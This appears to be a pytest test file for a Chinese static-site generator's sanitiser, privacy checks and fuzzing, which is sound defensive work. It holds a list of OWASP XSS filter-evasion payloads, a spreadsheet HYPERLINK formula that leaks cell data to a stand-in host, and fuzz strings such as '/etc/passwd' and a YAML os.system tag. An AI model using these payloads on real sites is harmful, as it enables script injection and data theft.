        {"site.toml": 'categories = ["理论\\u2066学习"]\n', "content/jx/a.md": md("正文")}, "error", path="site.toml", line=1,
        fragments=("“categories”中含有不可见的控制字符（U+2066）",),
    ),
    "bidi-mark-in-body-is-fine": Case({"content/jx/a.md": md("阿拉伯文 \u0627\u0644\u0639\u0631\u0628\u064a\u0629\u200f 引文")}, "safe", present=("阿拉伯文",)),
    # --- output hygiene (issue 16, p16c): unit folder alphabet, reserved characters in URLs, decoding messages
    "unit-folder-cyrillic-lookalike": Case(
        {"content/jx/a.md": md("正文"), "content/wаiyu/_unit.toml": OTHER_UNIT, "content/wаiyu/b.md": md("乙")},
        "error", path="content/wаiyu", line=1, fragments=("单位文件夹名“wаiyu”含有不允许的字符 “а”（U+0430）", "只能使用小写英文字母 a-z、数字 0-9"),
    ),
    "unit-folder-case-duplicate": Case(
        {"content/jx/a.md": md("正文"), "content/JX/_unit.toml": OTHER_UNIT, "content/JX/b.md": md("乙")},
        "error", path="content/JX", line=1, fragments=("单位文件夹名“JX”", "例如改为“jx”"),
    ),
    "unit-folder-chinese": Case(
        {"content/jx/a.md": md("正文"), "content/外语/_unit.toml": OTHER_UNIT, "content/外语/b.md": md("乙")},
        "error", path="content/外语", line=1, fragments=("“外”（U+5916）", "用于网址"),
    ),
    "unit-folder-hash": Case(
        {"content/jx/a.md": md("正文"), "content/w#y/_unit.toml": OTHER_UNIT, "content/w#y/b.md": md("乙")},
        "error", path="content/w#y", line=1, fragments=("“#”（U+0023）",),
    ),
    "unit-folder-leading-dash": Case(
        {"content/jx/a.md": md("正文"), "content/-wy/_unit.toml": OTHER_UNIT, "content/-wy/b.md": md("乙")},
        "error", path="content/-wy", line=1, fragments=("不能以“-”或“_”开头",),
    ),
    "unit-name-formula-is-text": Case(
        {"content/jx/_unit.toml": 'name = \'=HYPERLINK("http://x.example/?leak="&A2,"点击")\'\nkind = "教学单位"\n', "content/jx/a.md": md("正文")},
        "safe", present=("=HYPERLINK(&#34;http://x.example/?leak=&#34;&amp;A2,&#34;点击&#34;)",), absent=("<a href=\"http://x.example",),
    ),
    "attachment-hash-question-name": Case(
        {"content/jx/a/index.md": md("正文", attachments="['a#b?.pdf']"), "content/jx/a/a#b?.pdf": tiny_pdf()},
        "safe", path="content/jx/a/index.md", present=('href="../../jx/a/a%23b%3F.pdf"',), absent=("a#b?.pdf\"",),
    ),
    "body-link-hash-question-name": Case(
        {"content/jx/a/index.md": md("见[附件](<a%23b%3F.pdf>)。"), "content/jx/a/a#b?.pdf": tiny_pdf()},
        "safe", path="content/jx/a/index.md", present=('href="a%23b%3F.pdf"',),
    ),
    "encoding-utf8-with-ff-fe-inside": Case(
        {"content/jx/a.md": md("第一段\n\n第二段").encode().replace("第二段".encode(), b"\xff\xfe" + "第二段".encode())},
        "error", line=BODY + 2, fragments=("不是 UTF-8 编码（含有无法识别的字节）",),
    ),
    "unit-toml-nul-byte": Case(
        {"content/jx/_unit.toml": 'name = "机械工程学院党委"\nkind = "教学\x00单位"\n', "content/jx/a.md": md("正文")},
        "error", path="content/jx/_unit.toml", line=2, fragments=("空字符", "改成了 _unit.toml"),
    ),
    # --- issue 16 (p16b): budgets, attachments read in every part, images never published uncleaned
    "budget-markdown-bracket-flood": Case({"content/jx/a.md": md("[" * 12000 + "a" + "]" * 12000)}, "error", fragments=("方括号“[”嵌套了超过 32 层",)),
    "budget-markdown-unclosed-tags": Case({"content/jx/a.md": md("正文\n\n" + "<a " * 8000)}, "error", line=BODY + 2, fragments=("8000 个没有配对的“[”或“<”",)),
    "budget-markdown-deep-emphasis-located": Case({"content/jx/a.md": md("正文\n\n" + "**甲 " * 40 + "乙")}, "error", line=BODY + 2, fragments=("强调符号", "markdown_nesting")),
    "budget-post-over-size": Case({"content/jx/a.md": md("晾晒" * 200_000)}, "error", line=1, fragments=("超过上限 256 KB", "post_kb")),
    "budget-image-pixels-from-header": Case(
        {"content/jx/a/index.md": md("![图](大.png)"), "content/jx/a/大.png": png_without_iend(13000, 13000, 1)},
        "error", path="content/jx/a/index.md", fragments=("附件“大.png”的尺寸是 13000×13000", "image_megapixels"),
    ),
    "budget-docx-unpacked-size": Case(
        {"content/jx/a/index.md": md("见附件。", attachments="[空.docx]"), "content/jx/a/空.docx": docx_with_paragraphs(0, 33)},
        "error", path="content/jx/a/index.md", line=5, fragments=("word/document.xml 解压后有 33 MB", "unreadable_ok: [空.docx]"),
    ),
    "image-heic-refused": Case(
        {"content/jx/a/index.md": md("见附件。", attachments="[现场.heic]"), "content/jx/a/现场.heic": b"\x00\x00\x00\x18ftypheic\x00\x00\x00\x00mif1heic" + b"\0" * 64},
        "error", path="content/jx/a/index.md", line=5, fragments=("HEIC", "没有发布"),
    ),
    "image-malformed-jpeg-with-gps-refused": Case(
        {"content/jx/a/index.md": md("![现场](现场.jpg)"), "content/jx/a/现场.jpg": jpeg_declaring(40, 30)},
        "error", path="content/jx/a/index.md", fragments=("是已损坏的 JPEG 图片", "位置信息"),
    ),
    "pdf-annotation-read": Case(
        {"content/jx/a/index.md": md("见附件。", attachments="[表.pdf]"), "content/jx/a/表.pdf": pdf_with_parts("list", "13800138012", "", "")},
        "error", path="content/jx/a/表.pdf", line=1, fragments=("PDF 文档第 1 页的批注", "138****8012"),
    ),
    "docx-content-control-and-text-box-read": Case(
        {"content/jx/a/index.md": md("见附件。", attachments="[名单.docx]"), "content/jx/a/名单.docx": docx_every_part()},
        "error", path="content/jx/a/名单.docx", line=6, fragments=("Word 文档第 6 段", "138****8007"),
    ),
    "csv-gbk-read": Case(
        {"content/jx/a/index.md": md("见附件。", attachments="[名单.csv]"), "content/jx/a/名单.csv": "姓名,身份证号\n张三,11010519491231002X\n".encode("gbk")},
        "error", path="content/jx/a/名单.csv", line=2, fragments=("CSV 表格第 2 行", "110***********002X"),
    ),
    "txt-secret-marker-read": Case(
        {"content/jx/a/index.md": md("见附件。", attachments="[说明.txt]"), "content/jx/a/说明.txt": "一、总则\n本文件为内部资料\n".encode()},
        "error", path="content/jx/a/说明.txt", line=2, fragments=("文本文件第 2 行", "内部资料"),
    ),
}


def _build(tmp_path: Path, case: Case):
    site = write_site(tmp_path / "site", dict(case.files))
    if case.setup is not None:
        case.setup(site)
    out = tmp_path / "out"
    result = Builder(BuildOptions(site, out, as_of=AS_OF)).build()
    return site, out, result


def _show(problems) -> str:
    return "\n".join(p.format() for p in problems)


def test_corpus_is_big_enough() -> None:
    assert len(CASES) >= 80  # issue 16: the corpus grew past 80 reproductions
    assert sum(c.expect == "safe" for c in CASES.values()) >= 15 and sum(c.expect == "error" for c in CASES.values()) >= 15


@pytest.mark.parametrize("name", sorted(CASES))
def test_hostile_case(name: str, tmp_path: Path) -> None:
    case = CASES[name]
    _site, out, result = _build(tmp_path, case)
    assert all(p.path and p.line >= 1 for p in result.problems), _show(result.problems)
    if case.expect == "error":
        hits = [p for p in result.errors if p.path == case.path and p.line == case.line and all(f in p.message for f in case.fragments)]
        assert hits, f"expected error {case.path}:{case.line} with {case.fragments}, got:\n{_show(result.problems)}"
        assert not out.exists() or not any(out.rglob("*.html")), "a build with errors must publish nothing"
        return
    assert result.ok, _show(result.problems)
    if case.fragments:
        hits = [p for p in result.problems if not p.is_error and p.path == case.path and p.line == case.line and all(f in p.message for f in case.fragments)]
        assert hits, f"expected a warning at {case.path}:{case.line} with {case.fragments}, got:\n{_show(result.problems)}"
    html = (out / case.page).read_text("utf-8")
    assert not unsafe_in_body(html), unsafe_in_body(html)
    body = html.split('<div class="body">', 1)[1].split('<nav class="prev-next"', 1)[0]
    for s in case.present:
        assert s in html, f"{s!r} missing from the page"
    for s in case.absent:
        assert s not in body, f"{s!r} must not be published"
    for page in out.rglob("*.html"):
        assert not unsafe_in_page(page.read_text("utf-8")), page


def test_check_and_cli_report_the_same_located_errors(tmp_path: Path) -> None:
    """`check` (in process and via the CLI) reports what `build` reports, without a traceback."""
    files: dict[str, str | bytes] = {"content/jx/ok.md": md("好")}
    expected = []
    for name in ("javascript-markdown-link", "attachment-absolute", "encoding-gbk", "nul-byte", "data-url-image"):
        case = CASES[name]
        new = case.path.replace("content/jx/", f"content/jx/{name}/", 1)
        files[new] = case.files[case.path]
        expected.append(f"{new}:{case.line}: 错误：")
    site = write_site(tmp_path / "site", files)
    problems = Builder(BuildOptions(site, drafts=True)).check()
    printed = "\n".join(p.format() for p in problems)
    for e in expected:
        assert e in printed, printed
    proc = run_cli("check", str(site))
    assert proc.returncode == 1 and "Traceback" not in proc.stdout + proc.stderr
    for e in expected:
        assert e in proc.stderr
    warned = run_cli("build", str(write_site(tmp_path / "w", {"content/jx/a.md": CASES["script-plain"].files["content/jx/a.md"]})), "-o", str(tmp_path / "wo"), "--as-of", "2026-11-27")
    assert warned.returncode == 0, warned.stderr
    assert f"content/jx/a.md:{BODY}: 警告：已删除 <script> 标签" in warned.stdout


# ---------------------------------------------------------------------------
# the sanitiser on its own: OWASP filter-evasion vectors never survive


OWASP_VECTORS = [
    "<SCRIPT SRC=http://xss.rocks/xss.js></SCRIPT>",
    "javascript:/*--></title></style></textarea></script></xmp><svg/onload='+/\"/+/onmouseover=1/+/[*/[]/+alert(1)//'>",
    "<IMG SRC=\"javascript:alert('XSS');\">",
    "<IMG SRC=javascript:alert('XSS')>",
    "<IMG SRC=`javascript:alert(\"RSnake says, 'XSS'\")`>",
    "<a onmouseover=\"alert(document.cookie)\">xxs link</a>",
    "<IMG \"\"\"><SCRIPT>alert(\"XSS\")</SCRIPT>\"\\>",
    "<IMG SRC=# onmouseover=\"alert('xxs')\">",
    "<IMG SRC=/ onerror=\"alert(String.fromCharCode(88,83,83))\"></img>",
    "<img src=x onerror=\"&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058&#0000097&#0000108&#0000101&#0000114&#0000116&#0000040&#0000039&#0000088&#0000083&#0000083&#0000039&#0000041\">",
    "<IMG SRC=\"jav&#x0D;ascript:alert('XSS');\">",
    "<IMG SRC=\" &#14;  javascript:alert('XSS');\">",
    "<SCRIPT/XSS SRC=\"http://xss.rocks/xss.js\"></SCRIPT>",
    "<BODY onload!#$%&()*~+-_.,:;?@[/|\\]^`=alert(\"XSS\")>",
    "<<SCRIPT>alert(\"XSS\");//\\<</SCRIPT>",
    "<SCRIPT SRC=http://xss.rocks/xss.js?< B >",
    "<IMG SRC=\"`<javascript:alert>`('XSS')\"",
    "<iframe src=http://xss.rocks/scriptlet.html <",
    "</TITLE><SCRIPT>alert(\"XSS\");</SCRIPT>",
    "<INPUT TYPE=\"IMAGE\" SRC=\"javascript:alert('XSS');\">",
    "<BODY BACKGROUND=\"javascript:alert('XSS')\">",
    "<IMG DYNSRC=\"javascript:alert('XSS')\">",
    "<STYLE>li {list-style-image: url(\"javascript:alert('XSS')\");}</STYLE><UL><LI>XSS</br>",
    "<svg/onload=alert('XSS')>",
    "<LINK REL=\"stylesheet\" HREF=\"javascript:alert('XSS');\">",
    "<META HTTP-EQUIV=\"refresh\" CONTENT=\"0;url=data:text/html base64,PHNjcmlwdD5hbGVydCgnWFNTJyk8L3NjcmlwdD4K\">",
    "<IFRAME SRC=\"javascript:alert('XSS');\"></IFRAME>",
    "<TABLE BACKGROUND=\"javascript:alert('XSS')\">",
    "<DIV STYLE=\"background-image: url(javascript:alert('XSS'))\">",
    "<DIV STYLE=\"width: expression(alert('XSS'));\">",
    "<BASE HREF=\"javascript:alert('XSS');//\">",
    "<OBJECT TYPE=\"text/x-scriptlet\" DATA=\"http://xss.rocks/scriptlet.html\"></OBJECT>",
    "<EMBED SRC=\"data:image/svg+xml;base64,PHN2ZyB4bWxuczpzdmc9Imh0dH A6Ly93d3cudzMub3JnLzIwMDAvc3ZnIiB4bWxucz0iaHR0cDovL3d3dy53My5vcmcv MjAwMC9zdmciIHhtbG5zOnhsaW5rPSJodHRwOi8vd3d3LnczLm9yZy8xOTk5L3hs aW5rIiB2ZXJzaW9uPSIxLjAiIHg9IjAiIHk9IjAiIHdpZHRoPSIxOTQiIGhlaWdodD0iMjAw IiBpZD0ieHNzIj48c2NyaXB0IHR5cGU9InRleHQvZWNtYXNjcmlwdCI+YWxlcnQoIlh TUyIpOzwvc2NyaXB0Pjwvc3ZnPg==\" type=\"image/svg+xml\" AllowScriptAccess=\"always\"></EMBED>",
    "<a href=\"javas\x00cript:alert(1)\">x</a>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<form><button formaction=javascript:alert(1)>X</button></form>",
    "<a href=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">x</a>",
    "<a href=\"vbscript:msgbox('XSS')\">x</a>",
    "<x onclick=alert(1)>click</x>",
    "<p style=\"x:expression(alert(1))\">x</p>",
]


@pytest.mark.parametrize("vector", OWASP_VECTORS, ids=range(len(OWASP_VECTORS)))
def test_sanitize_neutralises_owasp_vector(vector: str) -> None:
    out = sanitize(vector)
    parsed = walk(f'<div class="body">{out}</div>')
    assert not unsafe_in_body(f'<div class="body">{out}</div>'), out
    for _tag, attrs in parsed.tags:
        assert "style" not in attrs and not any(k.startswith("on") for k in attrs), out
        for value in attrs.values():
            assert url_scheme(value) in (None, "http", "https", "mailto", "tel"), out


# ---------------------------------------------------------------------------
# property-based: random bytes and random front-matter never crash check/build


_LINE_RE = re.compile(r"^[^\n:]+:\d+(?::\d+)?: (?:错误|警告|提示)：")


def _assert_located(problems, site: Path) -> None:
    for p in problems:
        assert p.path and p.line >= 1, p
        assert p.message.strip(), p
        assert p.path.startswith("content/") or p.path in ("site.toml", "content"), p
        assert _LINE_RE.match(p.format()), p.format()


_SETTINGS = settings(max_examples=200, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow], derandomize=True)

_FIELDS = ["title", "date", "section", "meeting", "branch", "category", "tags", "attachments", "draft", "summary", "privacy_ok", "标题", "日期", "栏目", "草稿"]
_SCALARS = st.one_of(
    st.sampled_from(["NO", "yes", "010", "10:30", "2026-03-05", "~", "null", "''", '""', "通知公告", "支部生活", "主题党日", "jx-jg1", "[a, b]", "{a: 1}", "&x 1", "*x", "!!python/object:os.system", "|", ">", "- a", "1e3", ".inf", "0x1F", "true", "标题：全角", "\t", "'", '"', "[", "{", "&", "*", "!", "%", "@", "`", "---", "...", "#", "2026-02-30", "13800138000", "11010519491231002X", "秘密", "../../x.pdf", "/etc/passwd", "C:\\x.pdf"]),
    st.text(max_size=40),
)


@st.composite
def front_matter_posts(draw) -> str:
    lines = ["---"]
    for _ in range(draw(st.integers(0, 8))):
        key = draw(st.sampled_from(_FIELDS) | st.text(min_size=1, max_size=8))
        indent = draw(st.sampled_from(["", "", "", "  ", "\t"]))
        sep = draw(st.sampled_from([": ", ": ", ":", "：", " "]))
        lines.append(f"{indent}{key}{sep}{draw(_SCALARS)}")
    if draw(st.booleans()):
        lines.append("---")
    lines.append(draw(st.text(max_size=200)))
    return "\n".join(lines)


def _check_and_build_are_safe(root: Path, site: Path) -> BuildResult:
    """check and build: every problem located, and any page written is safe."""
    _assert_located(Builder(BuildOptions(site, drafts=True)).check(), site)
    result = Builder(BuildOptions(site, root / "out", as_of=AS_OF)).build()
    _assert_located(result.problems, site)
    if result.ok:
        for page in (root / "out").rglob("*.html"):
            assert not unsafe_in_page(page.read_text("utf-8")), page
    return result


class _OnePost:
    """What check and build do with one post of the random sites below (`conftest.one_post`:
    parse, render the body, scan the text readers get), in process on the bytes: the bulk of
    the random examples runs here in milliseconds; a few then go through real builds."""

    def __init__(self, root: Path) -> None:
        # the random sites' files as the load stage finds them: the unit, a.md (and b.md)
        self.files_ab = site_files(root / "ab", {"content/jx/a.md": "", "content/jx/b.md": md("好文章")})
        self.files_a = site_files(root / "a", {"content/jx/a.md": ""})

    def check(self, raw: bytes, files: dict) -> None:
        """Every problem located; a body that renders is safe (the pages' templates are
        checked by the real builds)."""
        problems, html = one_post(raw, files)
        if html is not None:
            assert not unsafe_in_body(f'<div class="body">{html}</div>'), html
        _assert_located(problems, Path("."))


@pytest.fixture(scope="module")
def one_post_site(tmp_path_factory) -> _OnePost:
    return _OnePost(tmp_path_factory.mktemp("one-post"))


_BUILDS = settings(_SETTINGS, max_examples=8)  # the real check + build per example: ~1 s each


@given(data=st.binary(max_size=600))
@_SETTINGS
def test_random_bytes_never_crash_parsing_or_rendering(one_post_site: _OnePost, data: bytes) -> None:
    one_post_site.check(data, one_post_site.files_ab)


@given(data=st.binary(max_size=600))
@_BUILDS
def test_random_bytes_never_crash_check_or_build(tmp_path_factory, data: bytes) -> None:
    root = tmp_path_factory.mktemp("bytes")
    site = write_site(root / "site", {"content/jx/a.md": data, "content/jx/b.md": md("好文章")})
    result = _check_and_build_are_safe(root, site)
    if not result.ok:
        assert not (root / "out").exists() or not any((root / "out").rglob("*.html"))


@given(text=front_matter_posts())
@_SETTINGS
def test_random_front_matter_never_crashes_parsing_or_rendering(one_post_site: _OnePost, text: str) -> None:
    one_post_site.check(text.encode("utf-8"), one_post_site.files_a)


@given(text=front_matter_posts())
@_BUILDS
def test_random_front_matter_never_crashes_check_or_build(tmp_path_factory, text: str) -> None:
    root = tmp_path_factory.mktemp("fm")
    site = write_site(root / "site", {"content/jx/a.md": text})
    _check_and_build_are_safe(root, site)


@given(data=st.binary(min_size=1, max_size=300), text=front_matter_posts())
@settings(max_examples=3, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow], derandomize=True)
def test_random_input_through_the_real_cli(tmp_path_factory, data: bytes, text: str) -> None:
    root = tmp_path_factory.mktemp("cli")
    site = write_site(root / "site", {"content/jx/a.md": data, "content/jx/b.md": text})
    for args in (("check", str(site)), ("build", str(site), "-o", str(root / "out"), "--as-of", "2026-11-27")):
        proc = run_cli(*args)
        assert proc.returncode in (0, 1), proc.stderr
        assert "Traceback" not in proc.stdout + proc.stderr
        for line in (proc.stdout + proc.stderr).splitlines():
            if "错误：" in line or "警告：" in line:
                assert _LINE_RE.match(line), line


# ---------------------------------------------------------------------------
# the demo site


def test_demo_site_pages_carry_no_content_script(request: pytest.FixtureRequest) -> None:
    if not (REPO / "content").is_dir():
        pytest.skip("the demo site's content/ is not there yet")
    out: Path = request.getfixturevalue("demo_build")  # the shared CLI build of the demo (read only)
    pages = sorted(out.rglob("*.html"))
    assert len(pages) > 50
    bad: list[str] = []
    theme_scripts = 0
    for page in pages:
        html = page.read_text("utf-8")
        problems = unsafe_in_page(html)
        bad.extend(f"{page.relative_to(out)}: {p}" for p in problems)
        for tag, attrs in walk(html).tags:
            if tag == "script":
                theme_scripts += 1
                assert THEME_SCRIPTS.match(attrs.get("src", "")), f"{page.relative_to(out)}: inline or foreign <script>"
        assert not re.search(r"javascript:", html, re.IGNORECASE), page
    assert not bad, bad[:20]
    assert theme_scripts >= len(pages) - 1  # every page but the bare 404 includes the theme script


def test_rendered_body_lists_every_relative_target_for_the_build_cache(tmp_path: Path) -> None:
    """RenderedBody.links names what the body points at, found or not, so a cached body
    is re-rendered when a linked file appears or disappears."""
    from generator.load.config import PrivacyConfig, SiteConfig
    from generator.load.sources import discover
    from generator.parse.markup import MarkupRenderer
    from generator.parse.post import parse_post, parse_unit

    files = {
        "content/jx/a/index.md": md("[甲](x.pdf) ![乙](img/y.png) [丙](../b.md) [外](https://www.example.edu.cn/) [顶](#top)"),
        "content/jx/a/x.pdf": b"%PDF-1.4\n",
        "content/jx/b.md": md("乙"),
    }
    site = write_site(tmp_path / "site", files)
    sources = discover(site)
    unit, _ = parse_unit((site / "content/jx/_unit.toml").read_bytes(), "content/jx/_unit.toml", "jx", SiteConfig())
    assert unit is not None
    # x.pdf is not a readable PDF: an error by default since issue 16, a warning on a site that accepts the risk
    config = SiteConfig(privacy=PrivacyConfig(unreadable="warning"))
    post, _ = parse_post((site / "content/jx/a/index.md").read_bytes(), "content/jx/a/index.md", unit, config, sources.files)
    assert post is not None
    body, resources, problems = MarkupRenderer().render(post, sources.files)
    assert body.links == ("content/jx/a/x.pdf", "content/jx/a/img/y.png", "content/jx/b.md")
    assert [r.source for r in resources] == ["content/jx/a/x.pdf"]
    assert [(p.line, "不存在" in p.message) for p in problems] == [(BODY, True)]


def test_issue16_card_is_luhn_valid() -> None:
    from generator.core.privacy import luhn_valid

    assert luhn_valid(CARD16)


@settings(max_examples=3000, deadline=None)
@given(st.text(alphabet=st.sampled_from(list(".~#\n_-aAtTmMpPsSwWxXdDbBhHuUeEkKoOiInN 名\u202e")), max_size=12))
def test_ignored_name_reads_names_as_its_pattern_does(name: str) -> None:
    """`ignored_name` tests strings instead of searching `_IGNORED` (issue 23: every name, every build):
    the same answer for every name, line breaks, case and editor droppings (".#x", "x~", "#x#", "X.SWP") included."""
    from generator.load.sources import _IGNORED, ignored_name

    assert ignored_name(name) == bool(_IGNORED.search(name))
    for ending in ("~", ".swp", ".SWX", ".tmp", "#", "\n"):
        assert ignored_name(name + ending) == bool(_IGNORED.search(name + ending))
